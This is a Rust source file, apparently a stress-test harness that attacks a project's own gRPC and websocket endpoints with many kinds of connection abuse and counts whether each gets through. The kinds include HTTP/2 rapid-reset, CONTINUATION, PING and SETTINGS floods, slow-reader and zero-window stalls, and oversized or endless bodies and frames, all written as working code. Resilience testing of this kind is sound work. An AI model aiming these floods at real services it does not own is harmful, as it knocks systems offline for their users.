//! The kinds of abuse. Each is one connection that goes on until it is cut, and then comes again. What came
//! of it is counted elsewhere.

use std::{
    io,
    net::{IpAddr, SocketAddr},
    sync::Arc,
    time::Duration,
};

use tokio::{
    io::{AsyncReadExt as _, AsyncWriteExt as _},
    net::{
        TcpSocket, TcpStream,
        tcp::{OwnedReadHalf, OwnedWriteHalf},
    },
    time::sleep,
};

use crate::{
    counts::{Count, Counts, Held, Reader},
    frames::{
        CONTINUATION, DATA, EMPTY_MESSAGE, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE,
        RST_STREAM, SETTINGS, WINDOW_UPDATE, frame, head, line, settings,
    },
};

const LIST_ZONES: &str = "/jingqi.v1.TruckPassService/ListZones";
const REFLECTION: &str = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo";
const SHAKE: &str = "GET /v1/line HTTP/1.1\r\nHost: x\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n\
    Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\
    Sec-WebSocket-Protocol: jingqi.v1+json\r\n";
/// How long an attacker rests before it comes again.
const REST: Duration = Duration::from_millis(5);
/// Questions of a tool on one stream.
const ASKED_AT_ONCE: usize = 10;
const FOR_EVER: Duration = Duration::from_hours(1);

macro_rules! kinds {
    ($($kind:ident = $name:literal;)+) => {
        /// A kind of abuse.
        #[derive(Clone, Copy, PartialEq, Eq)]
        pub enum Kind { $($kind,)+ }

        impl Kind {
            pub const ALL: &[Self] = &[$(Self::$kind,)+];

            pub const fn name(self) -> &'static str {
                match self { $(Self::$kind => $name,)+ }
            }
        }
    };
}

kinds! {
    Nothing = "nothing";
    Ordinary = "ordinary calls";
    Silent = "silent";
    PrefaceOnly = "preface-only";
    WindowZero = "window-zero";
    WindowOne = "window-of-one-byte";
    SlowReader = "slow-reader";
    RapidReset = "rapid-reset";
    Continuation = "continuation";
    Pings = "pings";
    Settings = "settings";
    LargeHeads = "large-heads";
    NeverFinished = "streams-never-finished";
    EndlessBodies = "endless-bodies";
    HangingBodies = "hanging-bodies";
    EmptyData = "empty-data";
    Churn = "open-and-close";
    LargeMessages = "large-messages";
    ToolBodies = "tool-bodies";
    ToolBytes = "tool-single-bytes";
    LinePings = "line-pings";
    LineSilent = "line-silent";
    LineLarge = "line-large-frames";
}

/// Who is attacked, and from where.
#[derive(Clone, Copy)]
pub struct Target {
    pub grpc: SocketAddr,
    pub web: SocketAddr,
    pub from: IpAddr,
}

impl Kind {
    /// Whether it comes by the door of mini-programs.
    pub const fn by_line(self) -> bool {
        matches!(self, Self::LinePings | Self::LineSilent | Self::LineLarge)
    }

    /// How much may be sent to it on each stream.
    const fn window(self) -> u32 {
        match self {
            Self::WindowZero | Self::ToolBytes => 0,
            Self::WindowOne => 1,
            _ => 0x7fff_ffff,
        }
    }

    /// It takes nothing of what is sent to it, or very little.
    const fn reads_little(self) -> bool {
        matches!(self, Self::WindowZero | Self::WindowOne | Self::SlowReader | Self::ToolBytes)
    }
}

/// Whether the abuse came as far as it was meant to: one that was refused at its first byte shows nothing. As
/// many connections as this are let in.
pub fn came_through(kind: Kind, counts: &Counts, let_in: usize) -> bool {
    let at_least = |count: &Count, each: usize| count.get() >= each * let_in;
    match kind {
        Kind::Nothing => true,
        Kind::Silent | Kind::LineSilent => counts.held_at_most.get() >= let_in,
        Kind::PrefaceOnly | Kind::ToolBodies => at_least(&counts.settings, 1),
        Kind::Ordinary => at_least(&counts.heads, 4),
        Kind::LargeMessages | Kind::WindowZero | Kind::WindowOne => at_least(&counts.heads, 1),
        Kind::SlowReader => at_least(&counts.acks, 1),
        // The server answers few tools at once, and the others not at all.
        Kind::ToolBytes => at_least(&counts.cut, 1) && counts.acks.get() > 0,
        Kind::Pings => at_least(&counts.acks, 100),
        Kind::LargeHeads | Kind::NeverFinished | Kind::EndlessBodies | Kind::HangingBodies => {
            at_least(&counts.acks, 1)
        }
        // Taken in until it was too much.
        Kind::RapidReset | Kind::Continuation | Kind::EmptyData | Kind::Settings => {
            at_least(&counts.cut, 1) && counts.settings.get() > 0
        }
        Kind::Churn => at_least(&counts.connections, 4),
        Kind::LinePings => at_least(&counts.frames, 8),
        Kind::LineLarge => at_least(&counts.frames, 1),
    }
}

/// Attacks on one connection after the other.
pub async fn run(kind: Kind, target: Target, counts: Arc<Counts>) {
    loop {
        // Cut or refused: that is what is wanted.
        let _ = once(kind, target, &counts).await;
        counts.cut.add(1);
        sleep(REST).await;
    }
}

async fn once(kind: Kind, target: Target, counts: &Arc<Counts>) -> io::Result<()> {
    let socket = TcpSocket::new_v4()?;
    socket.set_reuseaddr(true)?;
    if kind.reads_little() {
        socket.set_recv_buffer_size(4 * 1024)?;
    }
    socket.bind(SocketAddr::new(target.from, 0))?;
    let stream = socket.connect(if kind.by_line() { target.web } else { target.grpc }).await?;
    counts.connections.add(1);
    let _held = Held::new(counts);
    match kind {
        Kind::Nothing => sleep(FOR_EVER).await,
        Kind::Silent => {
            let (reader, _writer) = stream.into_split();
            return to_the_end(reader, Reader::http2(counts)).await;
        }
        Kind::Churn => {
            let (_, mut writer) = stream.into_split();
            return writer.write_all(&[PREFACE, &settings(65_535)].concat()).await;
        }
        _ if kind.by_line() => return by_line(kind, stream, counts).await,
        _ => return by_frames(kind, stream, counts).await,
    }
    Ok(())
}

async fn by_frames(kind: Kind, stream: TcpStream, counts: &Arc<Counts>) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    let more = frame(WINDOW_UPDATE, 0, 0, &0x7000_0000_u32.to_be_bytes());
    writer.write_all(&[PREFACE, &settings(kind.window()), &more].concat()).await?;
    let frames = Reader::http2(counts);
    tokio::select! {
        read = async {
            if kind.reads_little() { slowly(reader, frames).await } else { to_the_end(reader, frames).await }
        } => read,
        wrote = writes(kind, writer, counts) => wrote,
    }
}

async fn to_the_end(mut reader: OwnedReadHalf, mut frames: Reader) -> io::Result<()> {
    let mut buffer = vec![0; 64 * 1024];
    loop {
        match reader.read(&mut buffer).await? {
            0 => return Ok(()),
            count => frames.take(buffer.get(..count).unwrap_or_default()),
        }
    }
}

/// 1 KiB each 50 ms.
async fn slowly(mut reader: OwnedReadHalf, mut frames: Reader) -> io::Result<()> {
    let mut buffer = vec![0; 1_024];
    loop {
        match reader.read(&mut buffer).await? {
            0 => return Ok(()),
            count => frames.take(buffer.get(..count).unwrap_or_default()),
        }
        sleep(Duration::from_millis(50)).await;
    }
}

async fn writes(kind: Kind, mut writer: OwnedWriteHalf, counts: &Counts) -> io::Result<()> {
    let flood = match kind {
        Kind::Pings => frame(PING, 0, 0, &[7; 8]).repeat(1_000),
        Kind::Settings => frame(SETTINGS, 0, 0, &[]).repeat(1_000),
        Kind::Continuation => {
            writer.write_all(&frame(HEADERS, 0, 1, &head(LIST_ZONES, 0))).await?;
            frame(CONTINUATION, 0, 1, &[0, 1, b'a', 1, b'b']).repeat(500)
        }
        Kind::EmptyData => {
            writer.write_all(&frame(HEADERS, END_HEADERS, 1, &head(LIST_ZONES, 0))).await?;
            frame(DATA, 0, 1, &[]).repeat(1_000)
        }
        // One answer is begun and never taken, and the tool asks on, a byte at a time.
        Kind::ToolBytes => {
            writer.write_all(&asks(1, ASKED_AT_ONCE)).await?;
            frame(DATA, 0, 1, &[0]).repeat(500)
        }
        _ => Vec::new(),
    };
    let mut id = 1;
    loop {
        if flood.is_empty() {
            let (sent, rest) = calls(kind, &mut id);
            writer.write_all(&sent).await?;
            counts.bytes_out.add(sent.len());
            sleep(rest).await;
        } else {
            writer.write_all(&flood).await?;
            counts.bytes_out.add(flood.len());
        }
    }
}

/// A stream of reflection that asks so often for a large answer.
fn asks(id: u32, times: usize) -> Vec<u8> {
    let symbol = b"jingqi.v1.ConversationService";
    let message = [&[0, 0, 0, 0, 31, 0x22, 29][..], symbol].concat();
    let begun = frame(HEADERS, END_HEADERS, id, &head(REFLECTION, 0));
    [begun, frame(DATA, 0, id, &message.repeat(times))].concat()
}

/// A hundred calls of a kind, and how long to rest after them.
fn calls(kind: Kind, id: &mut u32) -> (Vec<u8>, Duration) {
    let mut sent = Vec::new();
    let begun = |flags, path, padding, id| frame(HEADERS, flags, id, &head(path, padding));
    // What is large is made in smaller portions.
    let large_ones = [Kind::LargeHeads, Kind::LargeMessages, Kind::HangingBodies, Kind::ToolBodies];
    let count = if large_ones.contains(&kind) { 10 } else { 100 };
    for call in 0..count {
        match kind {
            Kind::PrefaceOnly => return (Vec::new(), FOR_EVER),
            // Answers that are worth to be kept: each of reflection is large.
            Kind::WindowZero | Kind::WindowOne if call % 2 == 0 => {
                sent.extend(asks(*id, ASKED_AT_ONCE));
            }
            Kind::WindowZero | Kind::WindowOne | Kind::SlowReader | Kind::Ordinary => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                sent.extend(frame(DATA, END_STREAM, *id, &EMPTY_MESSAGE));
                if kind == Kind::Ordinary {
                    *id += 2;
                    return (sent, Duration::from_millis(100));
                }
            }
            Kind::RapidReset => {
                sent.extend(begun(END_HEADERS | END_STREAM, LIST_ZONES, 0, *id));
                sent.extend(frame(RST_STREAM, 0, *id, &[0, 0, 0, 8]));
            }
            Kind::LargeHeads => sent.extend(begun(END_HEADERS, LIST_ZONES, 7_000, *id)),
            Kind::EndlessBodies => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                let body = [&[0, 0, 0, 0xff, 0xff][..], &[7; 2_000]].concat();
                sent.extend(frame(DATA, 0, *id, &body));
            }
            Kind::LargeMessages => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                sent.extend(large(*id, 4));
                sent.extend(frame(DATA, END_STREAM, *id, &[]));
            }
            Kind::HangingBodies => {
                sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id));
                sent.extend(large(*id, 3));
            }
            // One message of four megabytes on each stream.
            Kind::ToolBodies => {
                sent.extend(begun(END_HEADERS, REFLECTION, 0, *id));
                sent.extend(frame(DATA, 0, *id, &[0, 0, 0x3f, 0xff, 0xff]));
                sent.extend(large(*id, 8));
            }
            _ => sent.extend(begun(END_HEADERS, LIST_ZONES, 0, *id)),
        }
        // Its answer says that all of this was read.
        if call % 10 == 9 {
            sent.extend(frame(PING, 0, 0, &[7; 8]));
        }
        *id += 2;
        if *id > 0x7fff_0000 {
            return (sent, FOR_EVER);
        }
    }
    let rest = match kind {
        Kind::SlowReader | Kind::RapidReset => Duration::ZERO,
        _ if count == 10 => Duration::from_millis(2),
        _ => Duration::from_millis(20),
    };
    (sent, rest)
}

/// The beginning of a body that says it has 70,000 bytes, and so many times 14,000 of them.
fn large(id: u32, times: usize) -> Vec<u8> {
    let first = [&[0, 0, 1, 0x11, 0x70][..], &[7; 14_000]].concat();
    let rest = frame(DATA, 0, id, &[7; 14_000]).repeat(times);
    [frame(DATA, 0, id, &first), rest].concat()
}

async fn by_line(kind: Kind, stream: TcpStream, counts: &Arc<Counts>) -> io::Result<()> {
    let (reader, mut writer) = stream.into_split();
    writer.write_all(SHAKE.as_bytes()).await?;
    let writes = async {
        if kind == Kind::LineSilent {
            // A half-open upgrade: the head never ends.
            sleep(FOR_EVER).await;
        }
        writer.write_all(b"\r\n").await?;
        let flood = match kind {
            Kind::LinePings => {
                let ping = [line(1, br#"{"ping":{}}"#), line(9, b"")].concat();
                ping.repeat(500)
            }
            _ => line(1, &vec![b' '; 200_000]),
        };
        loop {
            writer.write_all(&flood).await?;
            counts.bytes_out.add(flood.len());
        }
    };
    tokio::select! {
        read = to_the_end(reader, Reader::line(counts)) => read,
        wrote = writes => wrote,
    }
}
